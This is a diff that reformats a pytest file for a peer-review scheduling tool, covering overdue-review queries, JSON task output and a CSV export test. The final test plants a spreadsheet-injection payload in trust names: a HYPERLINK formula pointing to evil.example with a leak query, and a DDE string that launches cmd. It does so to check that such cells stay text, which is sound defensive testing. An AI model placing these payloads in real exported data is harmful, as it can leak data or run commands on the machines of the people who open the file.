@@ -7,10 +7,11 @@ import io
 import json
 
 import pytest
-from conftest import run_cli
 
 from peer_review.service.queries import overview, overview_csv_rows, overview_json
 from peer_review.store import db
+
+from conftest import run_cli
 
 pytestmark = pytest.mark.db
 
@@ -25,7 +26,11 @@ def test_overview_of_a_planned_triad(planned):
     assert steel["grid"]["workforce"]["stage"] == "scheduled"
     assert (steel["closed"], steel["reviews"]) == (0, 4)
     # the 2023 due dates are long past: the team's three answers are overdue, with who holds them
-    assert {o["email"] for o in data["overdue"]} == {"owen.fletcher@donriver.example.org", "joe.hartley@peakedge.example.org", "daniel.okafor@coordinator.example.org"}
+    assert {o["email"] for o in data["overdue"]} == {
+        "owen.fletcher@donriver.example.org",
+        "joe.hartley@peakedge.example.org",
+        "daniel.okafor@coordinator.example.org",
+    }
     assert all(o["days_overdue"] > 365 for o in data["overdue"])
     rows = overview_csv_rows(view)
     assert len(rows) == 12
@@ -54,7 +59,11 @@ def test_tasks_as_json_for_scripts(planned):
     result = run_cli("tasks", "--json", env={"PEER_REVIEW_DATABASE_URL": planned})
     assert result.returncode == 0, result.stderr
     tasks = json.loads(result.stdout)
-    assert {t["assignee_email"] for t in tasks} == {"owen.fletcher@donriver.example.org", "joe.hartley@peakedge.example.org", "daniel.okafor@coordinator.example.org"}
+    assert {t["assignee_email"] for t in tasks} == {
+        "owen.fletcher@donriver.example.org",
+        "joe.hartley@peakedge.example.org",
+        "daniel.okafor@coordinator.example.org",
+    }
     assert all(t["kind"] == "respond_to_assignment" and t["review_id"] == 1 and t["due"] == "2023-11-27" for t in tasks)
 
 
@@ -62,7 +71,11 @@ def test_csv_cells_that_a_spreadsheet_would_run_stay_text(tmp_path):
     from conftest import EXAMPLE
 
     formula = '=HYPERLINK("http://evil.example/?leak","Click me")'
-    text = EXAMPLE.read_text().replace("name: Steel Valley Academy Trust", "name: '" + formula + "'").replace("name: Peak Edge Schools Trust", "name: \"+cmd|' /C calc'!A0\"")
+    text = (
+        EXAMPLE.read_text()
+        .replace("name: Steel Valley Academy Trust", "name: '" + formula + "'")
+        .replace("name: Peak Edge Schools Trust", "name: \"+cmd|' /C calc'!A0\"")
+    )
     path = tmp_path / "hostile.yaml"
     path.write_text(text)
     env = {"PEER_REVIEW_DATABASE_URL": f"sqlite:///{tmp_path / 'h.db'}"}
